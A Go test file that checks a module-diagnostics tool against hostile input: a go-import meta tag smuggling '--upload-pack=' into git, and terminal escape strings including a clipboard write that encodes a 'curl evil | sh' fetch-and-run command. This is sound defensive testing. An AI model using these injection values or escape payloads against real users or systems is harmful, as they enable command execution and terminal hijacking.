package main

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/godoctorhq/godoctor/internal/testproxy"
)

// reachNamedHosts makes made-up host names reachable from the machine, as
// a company network does: through an HTTP proxy (HTTPS_PROXY and
// HTTP_PROXY) that maps each name to a loopback server, for godoctor and
// the real go command alike, which trusts the TLS servers through
// SSL_CERT_FILE. The test servers' certificates are for example.com and
// *.example.com: name the hosts there.
func (r *realMachine) reachNamedHosts(t *testing.T, tlsServer *httptest.Server, names ...string) *testproxy.HTTPProxy {
	t.Helper()
	p := testproxy.NewHTTPProxy(t)
	for _, n := range names {
		p.Map(n, strings.TrimPrefix(tlsServer.URL, "https://"))
	}
	r.sys.Env["HTTPS_PROXY"] = p.URL
	r.sys.Env["HTTP_PROXY"] = p.URL
	r.sys.Env["SSL_CERT_FILE"] = testproxy.TrustFile(t, tlsServer, r.home)
	r.sys.HTTP = testproxy.ClientThrough(p, tlsServer)
	return p
}

// TestHostileMetaTagRunsNothing: a go-import meta tag whose repository
// root is a git option (--upload-pack=CMD) makes neither why nor explain
// run CMD, where the old trace passed it to git ls-remote as an option,
// and git, in a project whose origin is a local repository, ran it. The go
// command refuses the same tag, and so does godoctor, with its words.
func TestHostileMetaTagRunsNothing(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	r := newRealMachine(t)
	marker := filepath.Join(r.home, "pwned")
	payload := filepath.Join(r.home, "payload.sh")
	os.WriteFile(payload, []byte("#!/bin/sh\ntouch "+marker+"\nexit 1\n"), 0o755)
	meta := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		fmt.Fprintf(w, `<html><head><meta name="go-import" content="evil.example.com/x git --upload-pack=%s"></head></html>`, payload)
	}))
	t.Cleanup(meta.Close)
	r.reachNamedHosts(t, meta, "evil.example.com")
	r.sys.Env["GOPRIVATE"] = "evil.example.com"
	r.sys.Env["GOPROXY"] = "off"

	// The project: a git checkout whose origin is a repository on disk, so
	// that git would run an upload-pack of the tag's choosing locally.
	project := filepath.Join(r.home, "project")
	origin := filepath.Join(r.home, "origin.git")
	for _, args := range [][]string{{"init", "-q", "--bare", origin}, {"init", "-q", project}, {"-C", project, "remote", "add", "origin", origin}} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	writeModule(t, project, "1.26")
	os.WriteFile(filepath.Join(project, "go.mod"), []byte("module example.com/project\n\ngo 1.26\n\nrequire evil.example.com/x v1.0.0\n"), 0o644)
	r.sys.Dir = project

	goOut := r.goFails(t, project, "mod", "download", "evil.example.com/x@v1.0.0")
	if !strings.Contains(goOut, "invalid repo root") {
		t.Fatalf("the go command does not refuse the tag as expected:\n%s", goOut)
	}
	out, code := r.run(t, "", "why", "evil.example.com/x@v1.0.0", "--timeout", "2s")
	if code != exitFailed || !strings.Contains(out, "invalid repo root") {
		t.Errorf("why: exit %d\n%s", code, out)
	}
	log := "go: evil.example.com/x@v1.0.0: unrecognized import path \"evil.example.com/x\": https fetch: Get \"https://evil.example.com/x?go-get=1\": dial tcp: lookup evil.example.com: no such host\n"
	out, code = r.run(t, log, "explain", "--timeout", "2s")
	if code != exitOK {
		t.Errorf("explain: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the meta tag's command ran")
	}
}

// hostile is what a stranger's server or file name may hold: escape
// sequences that write the clipboard (OSC 52), set the window title, clear
// the screen, ring the bell, and a bidirectional override.
const hostile = "\x1b]52;c;Y3VybCBldmlsfHNo\a \x1b]0;owned\a \x1b[2J \u202eexe.txt"

// noControl fails when out holds a control character a terminal obeys.
func noControl(t *testing.T, what, out string) {
	t.Helper()
	if i := strings.IndexFunc(out, func(r rune) bool {
		return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0x202e
	}); i >= 0 {
		t.Errorf("%s passes a control character to the terminal at %d: %q", what, i, out[max(0, i-40):min(len(out), i+40)])
	}
}

// TestEscapesFromOutsideAreShownNotObeyed: a module proxy's error body and
// a pasted log reach the output as visible escapes (\x1b), from every
// command that shows them.
func TestEscapesFromOutsideAreShownNotObeyed(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusInternalServerError)
		fmt.Fprint(w, "upstream failed: "+hostile)
	}))
	t.Cleanup(evil.Close)
	r.sys.Env["GOPROXY"] = evil.URL
	r.sys.Env["GOSUMDB"] = "off"
	log := "go: example.com/m@v1.0.0: reading " + evil.URL + "/example.com/m/@v/v1.0.0.info: 404 Not Found " + hostile + "\n"
	for _, c := range []struct {
		stdin string
		args  []string
	}{
		{"", []string{"check", "--timeout", "1s", "-v"}},
		{"", []string{"why", "example.com/m@v1.0.0", "--timeout", "1s"}},
		{"", []string{"mirrors", "--mirror", "evil=" + evil.URL, "--only", "evil", "--timeout", "1s", "--samples", "1"}},
		{log, []string{"explain", "--offline"}},
	} {
		out, _ := r.run(t, c.stdin, c.args...)
		noControl(t, strings.Join(c.args, " "), out)
		if !strings.Contains(out, `\x1b`) {
			t.Errorf("%s does not show the escape:\n%s", strings.Join(c.args, " "), out)
		}
	}
}

// A file name in an extracted tree of the module cache reaches cache's
// report as visible escapes.
func TestEscapesInTheModuleCacheAreShown(t *testing.T) {
	t.Parallel()
	c := newCacheMachine(t)
	tree := filepath.Join(c.cache, "example.com", "clean@v1.0.0")
	os.Chmod(tree, 0o755)
	if err := os.Symlink("/nonexistent", filepath.Join(tree, "x"+hostile)); err != nil {
		t.Fatal(err)
	}
	os.Chmod(tree, 0o555)
	for _, args := range [][]string{{"cache", "--offline"}, {"cache", "clean", "--offline", "--dry-run"}} {
		out, _ := c.run(t, "", args...)
		noControl(t, strings.Join(args, " "), out)
		if !strings.Contains(out, `\x1b`) {
			t.Errorf("%s does not show the escape:\n%s", strings.Join(args, " "), out)
		}
	}
}

// stalledServer accepts connections and never answers: a company git
// mirror behind url.insteadOf that hangs.
func stalledServer(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns []net.Conn
	var mu sync.Mutex
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		mu.Lock()
		for _, c := range conns {
			c.Close()
		}
		mu.Unlock()
	})
	return ln.Addr().String()
}

// processesNaming lists the running processes whose command line holds s.
func processesNaming(s string) []string {
	var found []string
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		cmdline, err := os.ReadFile(filepath.Join("/proc", d.Name(), "cmdline"))
		if err == nil && strings.Contains(string(cmdline), s) {
			found = append(found, d.Name()+": "+strings.ReplaceAll(string(cmdline), "\x00", " "))
		}
	}
	return found
}

// TestStalledGitEndsAtTheDeadlineAndOnSignals: why's direct hop runs git
// ls-remote against a server that accepts and never answers. git waits on
// its remote helper, which holds the pipe; at the deadline, and at once on
// SIGINT or SIGTERM, both are killed and why ends.
func TestStalledGitEndsAtTheDeadlineAndOnSignals(t *testing.T) {
	t.Parallel()
	if runtime.GOOS != "linux" {
		t.Skip("reads /proc to find leftover processes")
	}
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	r := newRealMachine(t)
	addr := stalledServer(t)
	os.WriteFile(filepath.Join(r.home, ".gitconfig"), []byte("[url \"http://"+addr+"/\"]\n\tinsteadOf = https://github.com/\n"), 0o644)
	r.sys.Env["GOPRIVATE"] = "github.com/acme"
	r.sys.Env["GOPROXY"] = "off"
	leftovers := func() []string {
		var left []string
		for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			if left = processesNaming(addr); len(left) == 0 {
				break
			}
		}
		return left
	}

	start := time.Now()
	out, code := r.run(t, "", "why", "github.com/acme/lib@v1.0.0", "--timeout", "500ms")
	if took := time.Since(start); code != exitFailed || took > 8*time.Second {
		t.Errorf("why took %s, exit %d:\n%s", took, code, out)
	}
	if left := leftovers(); len(left) > 0 {
		t.Errorf("git processes outlive why:\n%s", strings.Join(left, "\n"))
	}

	for _, sig := range []os.Signal{os.Interrupt, syscall.SIGTERM} {
		cmd := r.command(t, "why", "github.com/acme/lib@v1.0.0", "--timeout", "30s")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		for deadline := time.Now().Add(5 * time.Second); len(processesNaming(addr)) == 0 && time.Now().Before(deadline); {
			time.Sleep(20 * time.Millisecond) // until git has connected
		}
		cmd.Process.Signal(sig)
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			cmd.Process.Kill()
			t.Fatalf("why ignores %v while git waits", sig)
		}
		if code := cmd.ProcessState.ExitCode(); code != exitInterrupted {
			t.Errorf("%v: exit %d", sig, code)
		}
		if left := leftovers(); len(left) > 0 {
			t.Errorf("%v: git processes outlive why:\n%s", sig, strings.Join(left, "\n"))
		}
	}
}

// TestTricklingProxyEndsAtTheDeadline: a proxy that sends a byte every
// 100 ms never trips an idle timeout; each of why's requests has a total
// deadline too.
func TestTricklingProxyEndsAtTheDeadline(t *testing.T) {
	t.Parallel()
	r := newRealMachine(t)
	trickle := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.WriteHeader(http.StatusOK)
		for i := 0; i < 600; i++ {
			select {
			case <-req.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
			w.Write([]byte(" "))
			w.(http.Flusher).Flush()
		}
	}))
	t.Cleanup(trickle.Close)
	r.sys.Env["GOPROXY"] = trickle.URL
	r.sys.Env["GOSUMDB"] = "off"
	start := time.Now()
	out, code := r.run(t, "", "why", "example.com/m@v1.0.0", "--timeout", "500ms")
	if took := time.Since(start); code != exitFailed || took > 5*time.Second {
		t.Errorf("why took %s, exit %d:\n%s", took, code, out)
	}
}

// TestUseReachesWhatANewShellExports: godoctor started from a place that
// did not read ~/.bashrc (an IDE, cron, a login shell that skips it) still
// finds the export there that would override the go env file in every new
// interactive bash, and takes it out with the change; the pair's partner
// moves with it. The next bash runs the go command with the new mirror.
func TestUseReachesWhatANewShellExports(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	proxy := testproxy.New(t, "sum.test", probeModule, testproxy.Module{Path: "example.com/dep", Version: "v1.0.0", Files: map[string]string{"dep.go": "package dep\n"}})
	r := newRealMachine(t)
	os.WriteFile(filepath.Join(r.home, ".bashrc"), []byte(userBashrc+"export GOPROXY=https://goproxy.io\nexport GOSUMDB="+proxy.SumDBKey+"\n"), 0o644)
	delete(r.sys.Env, "GOPROXY") // not started from a shell that read .bashrc
	out, code := r.run(t, "", "use", proxy.URL, "--yes")
	if code != exitOK {
		t.Fatalf("use: exit %d\n%s", code, out)
	}
	shellEnv := r.sys.Environ("GOPROXY=", "GOSUMDB=")
	cmd := exec.Command("bash", "-c", `. "$HOME/.bashrc"; go env GOPROXY GOSUMDB && go mod download -json example.com/dep@v1.0.0 >/dev/null`)
	cmd.Env, cmd.Dir = shellEnv, r.home
	got, err := cmd.CombinedOutput()
	if err != nil || !strings.HasPrefix(string(got), proxy.URL+",direct\n"+proxy.SumDBKey+"\n") {
		t.Errorf("a new bash: %v\n%s\nuse said:\n%s", err, got, out)
	}
}
